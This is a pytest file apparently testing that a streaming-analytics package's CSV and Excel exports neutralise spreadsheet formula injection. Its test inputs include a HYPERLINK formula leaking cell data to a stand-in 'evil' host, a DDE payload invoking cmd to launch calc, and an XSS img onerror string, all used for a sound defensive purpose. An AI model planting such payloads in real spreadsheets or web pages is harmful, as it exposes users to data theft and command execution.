"""Exports for spreadsheets, read back by other readers: Python's csv, and openpyxl."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.escape import unescape

from spnb import analytics
from spnb.analytics.export import MOST_ROWS, write_csv, write_excel
from spnb.errors import TableError
from tests.analytics.season import season

NASTY = (
    '=HYPERLINK("http://evil/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    'quote " comma , semicolon ; line\nend',
    "'already quoted",
    "<img src=x onerror=alert(1)>",
    "plain",
)


def frame() -> pd.DataFrame:
    count = len(NASTY)
    at = pd.Timestamp("2026-03-29T00:59:59.500Z")
    return pd.DataFrame(
        {
            "=title": NASTY,
            "at": pd.Series([at, pd.NaT] + [at] * (count - 2)).astype("datetime64[ms, UTC]"),
            "number": [0.1, np.nan, np.inf, -1.5] + [2.0] * (count - 4),
            "whole": range(count),
            "flag": [True, False] + [True] * (count - 2),
        }
    )


def cells(path: Path) -> list[list[Any]]:
    return [list(row) for row in openpyxl.load_workbook(path).worksheets[0].iter_rows()]


def test_no_cell_runs_and_every_text_comes_back(tmp_path: Path) -> None:
    with write_csv(frame(), tmp_path / "f.csv").open(encoding="utf-8-sig", newline="") as file:
        heading, *rows = list(csv.reader(file))
    assert heading == ["'=title", "at", "number", "whole", "flag"]
    book = cells(write_excel({"one": frame()}, tmp_path / "f.xlsx"))
    assert [cell.value for cell in book[0]] == ["'=title", "at (UTC)", "number", "whole", "flag"]
    for place, (title, row, line) in enumerate(zip(NASTY, rows, book[1:], strict=True)):
        for text in (row[0], unescape(line[0].value)):
            assert not text.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
            assert text.removeprefix("'" if not title.startswith("'") else "") == title
        assert line[0].data_type == "s"  # text, no formula
        assert row[3] == str(place)
        assert line[3].value == place
        assert row[4] == str(line[4].value) == ("False" if place == 1 else "True")
    assert [row[1] for row in rows[:3]] == ["2026-03-29T00:59:59.500Z", "", "2026-03-29T00:59:59.500Z"]
    assert [row[2] for row in rows[:4]] == ["0.1", "", "", "-1.5"]
    assert book[1][1].value == datetime(2026, 3, 29, 0, 59, 59, 500_000)  # UTC, as the heading says
    assert book[2][1].value is None
    assert [line[2].value for line in book[1:5]] == [0.1, None, None, -1.5]


def test_a_season_in_a_workbook(tmp_path: Path) -> None:
    tables = season(streams=4, seed=31)
    tables["rooms"]["title"] = ["=1+1", "@x", "b", "c"]
    dataset = analytics.load(tables)
    book = openpyxl.load_workbook(dataset.export(tmp_path / "season.xlsx"), read_only=True)
    assert book.sheetnames == [
        "kpis",
        "definitions",
        "quality",
        *(name for name in analytics.describe()["table"].unique() if dataset.rows(name)),
    ]
    for name in ("views", "messages", "reactions", "presence", "status", "health", "rooms"):
        assert sum(1 for _ in book[name].iter_rows()) == dataset.rows(name) + 1
    heading, *rows = ([cell.value for cell in row] for row in book["kpis"].iter_rows())
    read = pd.DataFrame(rows, columns=heading).set_index("room_id")
    kpis = dataset.kpis
    assert read["title"].tolist() == ["'=1+1", "'@x", "b", "c"]
    for number in ("views", "unique_viewers", "watch_seconds", "average_viewers", "engagement_rate"):
        assert read[number].tolist() == pytest.approx(kpis[number].tolist())
    peaks = [moment.replace(tzinfo=UTC) for moment in pd.to_datetime(read["peak_at (UTC)"])]
    assert [abs((ours - theirs).total_seconds()) < 0.001 for ours, theirs in zip(kpis["peak_at"], peaks, strict=True)]
    assert all(
        abs((ours - theirs).total_seconds()) < 0.001 for ours, theirs in zip(kpis["peak_at"], peaks, strict=True)
    )
    book.close()
    only = openpyxl.load_workbook(dataset.export(tmp_path / "two.xlsx", "kpis", "views"))
    assert only.sheetnames == ["kpis", "views"]


def test_tables_as_csv(tmp_path: Path) -> None:
    dataset = analytics.load(season(streams=3, seed=32))
    read = pd.read_csv(dataset.export(tmp_path / "k.csv"))
    assert read["views"].tolist() == dataset.kpis["views"].tolist()
    views = pd.read_csv(dataset.export(tmp_path / "v.csv", "views"), parse_dates=["start", "end"])
    pd.testing.assert_series_equal(views["start"].astype(dataset.views["start"].dtype), dataset.views["start"])
    assert views["watch_seconds"].tolist() == dataset.views["watch_seconds"].tolist()


def test_a_stream_page_for_a_spreadsheet(tmp_path: Path) -> None:
    report = analytics.load(season(streams=3, seed=33)).report("s1")
    book = openpyxl.load_workbook(report.export(tmp_path / "s1.xlsx"))
    assert {"kpis", "concurrency", "retention", "chat", "reactions", "health"} <= set(book.sheetnames)
    steps = [row[1].value for row in book["concurrency"].iter_rows(min_row=2)]
    assert steps == report.concurrency["viewers"].tolist()
    row = pd.read_csv(report.export(tmp_path / "s1.csv")).iloc[0]
    assert (row["room_id"], row["views"]) == ("s1", report.kpis["views"])
    chat = pd.read_csv(report.export(tmp_path / "c.csv", "chat"))
    assert chat["messages"].tolist() == report.chat["messages"].tolist()


def test_what_does_not_fit_is_refused_with_a_way_out(tmp_path: Path) -> None:
    dataset = analytics.load(season(streams=2, seed=34))
    with pytest.raises(TableError, match=r"views has 1048576 rows.*export\('views.csv', 'views'\).*save\('folder'\)"):
        write_excel({"views": pd.DataFrame({"n": np.arange(MOST_ROWS)})}, tmp_path / "big.xlsx")
    assert not (tmp_path / "big.xlsx").exists()
    with pytest.raises(TableError, match=r"must end in \.xlsx or \.csv"):
        dataset.export(tmp_path / "season.ods")
    with pytest.raises(TableError, match="there is no visits to export: choose from kpis"):
        dataset.export(tmp_path / "v.csv", "visits")
    with pytest.raises(TableError, match="holds one table"):
        dataset.export(tmp_path / "v.csv", "views", "kpis")
